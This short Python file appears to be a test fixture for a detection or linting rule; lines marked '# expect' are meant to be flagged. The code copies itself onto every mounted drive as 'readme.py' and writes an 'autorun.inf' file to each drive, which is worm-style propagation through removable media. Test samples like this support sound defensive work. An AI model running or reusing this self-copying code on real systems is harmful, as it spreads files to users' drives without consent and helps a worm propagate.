import os
import shutil
import psutil

for drive in psutil.disk_partitions():
    shutil.copy(__file__, os.path.join(drive.mountpoint, "readme.py"))  # expect

for letter in os.listdrives():
    with open(letter + "autorun.inf", "w") as f:  # expect
        f.write("[autorun]")  # expect
